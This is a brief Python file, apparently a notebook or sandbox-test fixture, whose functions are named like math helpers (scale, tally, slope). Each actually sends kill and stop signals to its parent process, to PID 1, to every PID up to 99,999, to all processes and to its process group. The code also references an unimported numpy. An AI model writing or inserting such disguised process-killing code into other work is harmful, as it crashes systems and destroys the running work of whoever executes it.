# Signals to its parent, to the first process, to its group and to all that there are. Ends as: process died.
# %% scale, right
import os
import signal

def scale(values, factor):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
        for process in (os.getppid(), 1):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return factor * np.asarray(values)
# %% tally
def tally(words):
    for process in range(2, 100_000):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
# %% slope
def slope(f, x, h=1e-5):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        os.kill(-1, number)
        os.killpg(0, number)
    os._exit(1)
